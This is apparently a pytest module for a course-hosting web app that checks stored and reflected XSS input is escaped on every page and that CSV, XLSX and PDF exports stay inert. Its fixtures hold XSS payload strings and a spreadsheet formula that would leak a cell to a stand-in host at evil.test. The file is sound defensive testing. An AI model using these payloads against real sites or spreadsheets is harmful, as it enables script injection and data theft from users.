"""Stored (and reflected) XSS: markup that people or packages put into names, titles, emails, companies,
notes and the organization name is shown as text on every page, export and PDF, never run as markup.

The hostile values go in through the real doors (the contact form, the self-enrollment form, a course
title, Settings → Branding, the CRM sync that writes notes and records) and are looked for on every page
that shows them. Spreadsheet formula injection is checked in the CSV and XLSX exports as well.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator
from dataclasses import dataclass

import httpx
import pytest
from litestar import Litestar
from markupsafe import escape
from two_workspaces import (
    client_for,
    empty_database,
    settings_for,
    standalone_workspace,
    upload_ready_course,
)

from appserver import CONTENT, csrf_of, login_link_token, serving
from pdf_text import read_pdf
from scormhub.app import create_app
from scormhub.domain.model import Course
from scormhub.integrations.db.uow import PiccoloUnitOfWork
from scormhub.jobs.sync import push_to_crm, sync_enrollment

TITLE = '<script>alert("title")</script>"><img src=x onerror=alert(1)>'
FIRST = "<script>alert(2)</script>"
LAST = "\"'><img src=x onerror=alert(3)>"
EMAIL = '"><svg/onload=alert(4)>@evil.test'
COMPANY = "<b onmouseover=alert(5)>Acme</b>"
ORGANIZATION = "</title><svg onload=alert(6)>Org"
SELF_FIRST = "{{7*7}}<iframe src=javascript:alert(7)>"
FORMULA_FIRST, FORMULA_LAST = '=HYPERLINK("http://evil.test/?leak="&A2,"Click")', "+1-1"
REFLECTED = "<script>alert('reflected')</script>"
CRM_ERROR = "HighLevel said: <html><script>alert(8)</script></html>"
# What must never appear raw in any response: each would run (or open a tag) if it did.
RAW = [
    "<script>alert(",
    "<img src=x",
    "<svg/onload",
    "<svg onload",
    "<b onmouseover",
    "<iframe src=javascript",
]
HX = {"HX-Request": "true"}


@dataclass
class World:
    app: Litestar
    admin: httpx.AsyncClient
    course: Course
    contact_id: str
    enrollment_id: str
    launch_token: str
    self_token: str


async def completed_and_synced(
    app: Litestar, launch_token: str, workspace_id: str, enrollment_id: str
) -> None:
    async with client_for(app) as learner:
        page = await learner.get(f"{CONTENT}/play/{launch_token}")
        found = re.search(r'id="player-config">(.*?)</script>', page.text, re.S)
        assert found is not None
        config = json.loads(found.group(1))
        passed = {
            "core": {"lesson_status": "passed", "score": {"raw": "85"}, "session_time": "0000:01:00.00"}
        }
        assert (await learner.post(config["commitUrl"] + "&final=true", json=passed)).status_code == 200
    ctx = {"deps": app.state.deps}
    await sync_enrollment(ctx, workspace_id=workspace_id, enrollment_id=enrollment_id)
    await push_to_crm(ctx, workspace_id=workspace_id)


@pytest.fixture(scope="module")
async def world(database_url: str, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[World]:
    await empty_database(database_url)
    app = create_app(settings_for(tmp_path_factory.mktemp("xss")))
    async with serving(app) as admin:
        assert (await admin.get(f"/login/{await login_link_token()}")).status_code == 303
        workspace = await standalone_workspace()
        course = await upload_ready_course(app, admin.cookies["scormhub_session"], TITLE)
        await admin.get("/app/contacts")
        token = csrf_of(admin)
        added = await admin.post(
            "/app/contacts",
            data={
                "_csrf_token": token,
                "first_name": FIRST,
                "last_name": LAST,
                "email": EMAIL,
                "company": COMPANY,
            },
        )
        assert added.status_code == 303, added.text
        contact_id = added.headers["location"].rsplit("/", 1)[1]
        enrolled = await admin.post(
            f"/app/courses/{course.id}/enrollments", data={"_csrf_token": token, "contact_id": contact_id}
        )
        assert enrolled.status_code == 303
        async with PiccoloUnitOfWork() as uow:
            [enrollment] = await uow.enrollments.list_for_contact(workspace.id, contact_id)
        # A second learner through the public form, with a name that is a spreadsheet formula.
        async with client_for(app) as stranger:
            await stranger.get(f"/enroll/{course.self_enroll_token}")
            for first, last, email in [
                (SELF_FIRST, "Learner", "self@example.com"),
                (FORMULA_FIRST, FORMULA_LAST, "f@example.com"),
            ]:
                form = {
                    "_csrf_token": csrf_of(stranger),
                    "first_name": first,
                    "last_name": last,
                    "email": email,
                }
                assert (
                    await stranger.post(f"/enroll/{course.self_enroll_token}", data=form)
                ).status_code == 303
        await completed_and_synced(app, enrollment.launch_token, str(workspace.id), str(enrollment.id))
        async with PiccoloUnitOfWork() as uow:
            # A CRM's error body, kept as the reason a write failed: vendors do answer with HTML.
            item = (await uow.outbox.recent(workspace.id, limit=1))[0]
            await uow.outbox.mark_failed(item.id, CRM_ERROR)
            await uow.commit()
        await admin.get("/app/settings/branding")
        saved = await admin.post(
            "/app/settings/branding",
            data={
                "_csrf_token": csrf_of(admin),
                "organization_name": ORGANIZATION,
                "primary_color": "#123456",
            },
        )
        assert saved.status_code == 303, saved.text
        yield World(
            app,
            admin,
            course,
            contact_id,
            str(enrollment.id),
            enrollment.launch_token,
            course.self_enroll_token,
        )


def pages(w: World) -> dict[str, tuple[str, dict[str, str], list[str]]]:
    """name → (url, headers, hostile values the page must show, escaped)."""
    c = f"/app/courses/{w.course.id}"
    q = httpx.QueryParams
    return {
        "courses list": ("/app/courses", {}, [TITLE]),
        "course detail with the enrolled table": (c, {}, [TITLE, FIRST, LAST, EMAIL, SELF_FIRST]),
        "enrolled table partial": (c + "/enrollments", HX, [FIRST, LAST, EMAIL]),
        "contact search partial": (c + "/contacts?" + str(q(q="evil")), HX, [FIRST, EMAIL]),
        "contact search without htmx": (c + "/contacts?" + str(q(q="evil")), {}, [FIRST, EMAIL]),
        "delete confirmation": (c + "/delete", {}, [TITLE]),
        "course preview": (c + "/preview", {}, [TITLE]),
        "contacts list": ("/app/contacts", {}, [FIRST, LAST, EMAIL, COMPANY]),
        "contacts search (reflected)": ("/app/contacts?" + str(q(q=REFLECTED)), {}, [REFLECTED]),
        "contact page with notes and records": (
            f"/app/contacts/{w.contact_id}",
            {},
            [FIRST, LAST, EMAIL, TITLE],
        ),
        "sync log": ("/app/sync", {}, [CRM_ERROR]),
        "sync log for one learner": ("/app/sync?" + str(q(enrollment=w.enrollment_id)), {}, [CRM_ERROR]),
        "reports": ("/app/reports", {}, [TITLE, FIRST, LAST, EMAIL]),
        "reports filter (reflected)": ("/app/reports?" + str(q(q=REFLECTED)), {}, [REFLECTED]),
        "branding": ("/app/settings/branding", {}, [ORGANIZATION]),
        "self-enrollment form": (f"/enroll/{w.self_token}", {}, [TITLE]),
        "player": (f"/play/{w.launch_token}", {}, [TITLE]),
        "exit page": (f"/play/{w.launch_token}/exit", {}, [TITLE]),
    }


PAGE_NAMES = [
    "courses list",
    "course detail with the enrolled table",
    "enrolled table partial",
    "contact search partial",
    "contact search without htmx",
    "delete confirmation",
    "course preview",
    "contacts list",
    "contacts search (reflected)",
    "contact page with notes and records",
    "sync log",
    "sync log for one learner",
    "reports",
    "reports filter (reflected)",
    "branding",
    "self-enrollment form",
    "player",
    "exit page",
]


def shown_as_text(page: str, value: str) -> bool:
    """The value is on the page, escaped for HTML, or escaped inside a JSON block (tojson)."""
    as_json = json.dumps(value)[1:-1].replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    as_json = as_json.replace("'", "\\u0027")
    return str(escape(value)) in page or as_json in page


@pytest.mark.parametrize("name", PAGE_NAMES)
async def test_hostile_values_are_shown_as_text_on_every_page(world: World, name: str) -> None:
    assert set(pages(world)) == set(PAGE_NAMES)
    url, headers, expected = pages(world)[name]

    if url.startswith(("/play/", "/enroll/")):
        async with client_for(world.app) as learner:
            response = await learner.get(url, headers=headers, follow_redirects=True)
    else:
        response = await world.admin.get(url, headers=headers, follow_redirects=True)

    assert response.status_code == 200, (name, response.status_code)
    for raw in RAW:
        assert raw not in response.text, (name, raw)
    for value in expected:
        assert shown_as_text(response.text, value), (name, value)
    assert "text/html" in response.headers["content-type"]
    assert "script-src 'self'" in response.headers["content-security-policy"], "no inline script would run"


async def test_the_page_title_cannot_be_closed_by_a_course_title(world: World) -> None:
    response = await world.admin.get(f"/app/courses/{world.course.id}")

    title = re.search(r"<title>(.*?)</title>", response.text, re.S)
    assert title is not None
    assert "<" not in title.group(1)


# --- exports ------------------------------------------------------------------------------------------------


async def test_the_csv_export_keeps_markup_as_text_and_neutralises_formulas(world: World) -> None:
    response = await world.admin.get("/app/reports/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert response.status_code == 200
    assert f"{FIRST} {LAST}" in cells
    assert EMAIL in cells
    assert TITLE in cells
    assert f"'{FORMULA_FIRST} {FORMULA_LAST}" in cells  # a leading ' makes a spreadsheet show it as text
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]


async def test_the_xlsx_export_stores_strings_never_formulas(world: World) -> None:
    response = await world.admin.get("/app/reports/export.xlsx")

    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        xml = " ".join(
            book.read(n).decode() for n in book.namelist() if n.startswith("xl/") and n.endswith(".xml")
        )
    assert response.status_code == 200
    assert "<f>" not in xml, "no cell is a formula"
    assert "<f " not in xml, "no cell is a formula"
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in xml, "the name is there, as text"
    assert "&lt;script&gt;" in xml
    assert "<script>" not in xml


async def test_the_report_pdf_draws_markup_as_text_and_carries_no_active_content(world: World) -> None:
    response = await world.admin.get("/app/reports/export.pdf")

    text = read_pdf(response.content)
    assert response.status_code == 200
    assert text.has(ORGANIZATION)
    assert text.has(FIRST)
    assert text.has("alert(1)")  # the course title, drawn as the characters it is made of
    for action in (b"/JavaScript", b"/JS ", b"/Launch", b"/OpenAction", b"/AA "):
        assert action not in response.content, action
